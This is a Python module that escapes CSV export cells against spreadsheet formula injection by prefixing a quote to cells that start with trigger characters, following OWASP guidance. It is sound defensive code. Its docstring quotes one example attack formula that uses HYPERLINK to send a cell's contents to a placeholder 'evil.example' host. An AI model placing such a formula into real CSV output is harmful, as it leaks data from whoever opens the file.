"""CSV cells a spreadsheet reads as text, never as a formula ("CSV injection").

Excel, LibreOffice Calc and Google Sheets evaluate a cell whose first character is `=`, `+`, `-`
or `@` (also tab, CR and NUL, which some of them skip) as a formula: a report title like
`=HYPERLINK("http://evil.example/?"&A1,"Klik")` would run on the computer of whoever opens the
open data. Following OWASP's CSV Injection guidance and ASVS 1.2.10, such a cell gets a leading
single quote, which spreadsheets take as "this is text".

- A plain number (`-3`, `-0.25`, `+2.5e3`) is never a formula and is left as it is, so numeric
  columns stay readable as numbers, whether the value is an int, a float or a numeric string.
- Leading spaces are looked through (some importers trim them): ` =1+1` is escaped too.
- Escaping is reversible: a text that already starts with quotes in front of a trigger gets one
  more, so `original()` gives back exactly what was written, for any text.

Every CSV the system writes passes its cells through `cell()` (the open-data export today; a
console export should do the same).
"""
from __future__ import annotations

import re
from typing import Any

ESCAPE = "'"
FORMULA_TRIGGERS = frozenset("=+-@\t\r\x00")
_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def is_number(text: str) -> bool:
    """A plain decimal number (what `str()` gives for an int or a finite float), nothing around it."""
    return _NUMBER.fullmatch(text) is not None


def _formula_like(text: str) -> bool:
    """Whether a spreadsheet could read `text`, once any leading quotes are taken off, as a formula."""
    core = text.lstrip(ESCAPE)
    if is_number(core):
        return False
    return core[:1] in FORMULA_TRIGGERS or core.lstrip()[:1] in FORMULA_TRIGGERS


def formula_safe(text: str) -> str:
    """`text` as a cell a spreadsheet shows as text: one quote in front when it could be a formula."""
    return ESCAPE + text if _formula_like(text) else text


def original(cell: str) -> str:
    """The text `formula_safe` was given, from the cell it wrote (for readers of the files)."""
    return cell[1:] if cell.startswith(ESCAPE) and _formula_like(cell[1:]) else cell


def cell(value: Any) -> str:
    """One CSV cell: empty for None, `true`/`false` for booleans, anything else as formula-safe text
    (numbers stay plain numbers)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return formula_safe(str(value))
